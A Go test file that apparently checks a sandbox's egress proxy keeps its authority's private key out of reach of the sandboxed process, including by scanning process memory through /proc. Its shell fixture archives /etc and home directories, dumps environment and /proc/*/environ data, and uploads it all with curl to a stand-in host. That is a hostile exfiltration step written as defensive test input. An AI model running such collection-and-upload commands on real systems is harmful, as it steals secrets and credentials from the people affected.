package main

import (
	"errors"
	"fmt"
	"io"
	"io/fs"
	"net/http"
	"os"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"testing"

	"golang.org/x/sys/unix"
)

// TestEgressAuthorityKey: the key of a cell's authority is only in the memory
// of the run's own process. While a request waits at the server, and after the
// run, the test searches everything that the program has written and that the
// cell can see. Root first finds the key in that memory, and so knows what to
// look for. An ordinary user cannot, and looks for every encoded key that fits
// the authority's certificate.
func TestEgressAuthorityKey(t *testing.T) {
	t.Parallel()
	need(t, "/usr/bin/curl", "/usr/bin/tar")
	inGroup(t)
	l := newLab(t)
	l.ok(os.Mkdir(filepath.Join(l.dir, "tmp"), 0o755))
	l.env = []string{"TMPDIR=" + filepath.Join(l.dir, "tmp")}
	var api *site
	seen := make(chan []byte, 1)
	found := make(chan *authorityKey, 1)
	api = l.site("api.example.com", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, err := io.ReadAll(r.Body)
		if err != nil || r.URL.Path != "/seen" {
			return
		}
		k := keyOf(t, body)
		if k == nil {
			return
		}
		pid := childWith(t, api.pin())
		hidden(t, pid)
		k.recover(t, pid)
		k.absentInFamily(t, pid)
		k.absentBelow(t, "during the run", l.dir)
		seen <- body
		found <- k
		_, _ = io.WriteString(w, payload+"\n")
	}))
	// What is packed goes where it is not packed itself.
	o := l.run(rule("host: api.example.com, port: 443, protocol: rest, access: full", "/usr/bin/curl"), `
curl -sS https://api.example.com/first &&
{ tar -c --ignore-failed-read /etc /tmp /home/sandbox "$PWD" 2>/dev/null; env
  cat /proc/*/environ /proc/*/cmdline /proc/*/maps /proc/*/mountinfo /proc/net/* /proc/*/fd/0 2>/dev/null </dev/null; } >/dev/shm/seen
curl -sS --data-binary @/dev/shm/seen https://api.example.com/seen`)
	o.says(0, payload)
	k := <-found
	k.absent(t, "what the cell sees", <-seen)
	k.absent(t, "the output", []byte(o.said))
	k.absentBelow(t, "after the run", l.dir)
}

// inGroup puts the calling goroutine, until it ends, and all processes that it
// starts into a group that is not root's: see hidden. An ordinary user is in
// one.
func inGroup(t *testing.T) {
	t.Helper()
	const daemon = 1
	if os.Geteuid() != 0 {
		return
	}
	runtime.LockOSThread() // and never unlocked: the thread ends with the goroutine
	// The one of package unix is for all threads.
	if _, _, errno := unix.RawSyscall(unix.SYS_SETRESGID, daemon, daemon, daemon); errno != 0 {
		t.Fatal(errno)
	}
}

// hidden checks that other processes of the user cannot read a process's
// memory, and that it is not dumped as a core. One setting decides both; the
// owner of the files in /proc shows it.
func hidden(t *testing.T, pid int) {
	t.Helper()
	var process, memory unix.Stat_t
	dir := fmt.Sprintf("/proc/%d", pid)
	if err := errors.Join(unix.Stat(dir, &process), unix.Stat(dir+"/mem", &memory)); err != nil {
		t.Error(err)
	}
	if process.Gid == 0 || memory.Uid != 0 || memory.Gid != 0 {
		t.Errorf("the run's own process is user %d's and group %d's, and its memory that of %d and %d, want root's", process.Uid, process.Gid, memory.Uid, memory.Gid)
	}
	if os.Geteuid() == 0 {
		return
	}
	f, err := os.Open(dir + "/mem")
	if err == nil {
		_ = f.Close()
	}
	if !errors.Is(err, fs.ErrPermission) {
		t.Errorf("the memory of the run's own process can be opened: %v", err)
	}
}

// childWith returns the process that the test has started with these words in
// its arguments.
func childWith(t *testing.T, words string) int {
	t.Helper()
	for pid, parent := range processes() {
		line, _ := os.ReadFile(fmt.Sprintf("/proc/%d/cmdline", pid))
		if parent == os.Getpid() && strings.Contains(string(line), words) {
			return pid
		}
	}
	t.Errorf("no child of the test has %q in its arguments", words)
	return 0
}

// processes returns the parent of each process.
func processes() map[int]int {
	all := map[int]int{}
	paths, _ := filepath.Glob("/proc/[0-9]*/stat")
	for _, path := range paths {
		stat, _ := os.ReadFile(path) // may have ended
		// The name in parentheses can hold anything.
		fields := strings.Fields(string(stat[max(strings.LastIndexByte(string(stat), ')'), 0):]))
		pid, err := strconv.Atoi(filepath.Base(filepath.Dir(path)))
		if err == nil && len(fields) > 2 {
			all[pid], _ = strconv.Atoi(fields[2])
		}
	}
	return all
}

// heap calls f with each writable part of a process's memory until f returns
// false.
func heap(t *testing.T, pid int, f func([]byte) bool) {
	t.Helper()
	maps, err := os.ReadFile(fmt.Sprintf("/proc/%d/maps", pid))
	if err == nil {
		var mem *os.File
		if mem, err = os.Open(fmt.Sprintf("/proc/%d/mem", pid)); err == nil {
			defer func() { _ = mem.Close() }()
			eachWritable(string(maps), mem, f)
		}
	}
	if err != nil && !errors.Is(err, fs.ErrNotExist) && !errors.Is(err, unix.ESRCH) { // it has ended
		t.Error(err)
	}
}

func eachWritable(maps string, mem io.ReaderAt, f func([]byte) bool) {
	// What is longer is not the heap, which grows in such steps, but the race
	// detector's own.
	const step, most = 1 << 20, 64 << 20
	for line := range strings.Lines(maps) {
		var from, to int64
		var rights string
		if _, err := fmt.Sscanf(line, "%x-%x %s", &from, &to, &rights); err != nil || !strings.HasPrefix(rights, "rw") || to-from > most {
			continue
		}
		for ; from < to; from += step {
			b := make([]byte, min(step, to-from))
			if n, _ := mem.ReadAt(b, from); !f(b[:n]) {
				return
			}
		}
	}
}
